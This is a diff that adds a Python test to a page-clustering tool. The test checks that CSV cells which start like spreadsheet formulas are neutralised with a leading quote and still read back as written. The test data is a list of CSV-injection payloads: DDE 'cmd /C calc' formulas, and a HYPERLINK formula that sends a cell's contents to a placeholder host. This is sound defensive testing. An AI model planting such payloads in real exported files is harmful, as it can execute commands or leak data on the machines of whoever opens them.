@@ -106,3 +106,33 @@ def test_parquet_row_groups_are_cut_alike_whatever_pieces_the_rows_come_in(monke
     table = parquet.read().to_pylist()
     assert [r["id"] for r in table] == [r["id"] for r in rows]
     assert table[0]["cluster"] == NO_CLUSTER and table[1]["http_status"] == 200
+
+
+HOSTILE_IDS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0",
+               "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1",
+               "'already quoted", "plain-id"]
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_made_inert_and_read_back_as_written(tmp_path):
+    """Ids and URLs come from crawled pages: a cell that starts like a formula gets a leading
+    ' (OWASP), in every column that copies it (representative too); reading the file back
+    (dedup --clusters, report) gives the ids as they were."""
+    from spotsigs.results.records import FORMULA_STARTS, read_cluster_records
+
+    story = "<p>" + "The river rose through the night and the water reached the market. " * 6
+    lines = [json.dumps({"id": i, "url": "=cmd|' /C calc'!A0", "html": story + "</p>"})
+             for i in HOSTILE_IDS]
+    source = tmp_path / "crawl.jsonl"
+    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    out, pairs = tmp_path / "c.csv", tmp_path / "p.csv"
+    assert main(["cluster", str(source), "-q", "-o", str(out), "--pairs", str(pairs)]) == 0
+    for path in (out, pairs):
+        with open(path, encoding="utf-8", newline="") as stream:
+            for row in csv.DictReader(stream):
+                for field, cell in row.items():
+                    if field not in ("cluster", "similarity", "signatures"):
+                        assert not cell.startswith(FORMULA_STARTS[:-1]), (field, cell)
+    records = list(read_cluster_records(out))
+    assert [r["id"] for r in records] == HOSTILE_IDS
+    assert {r["representative"] for r in records} <= set(HOSTILE_IDS)
+    assert {r["url"] for r in records} == {"=cmd|' /C calc'!A0"}
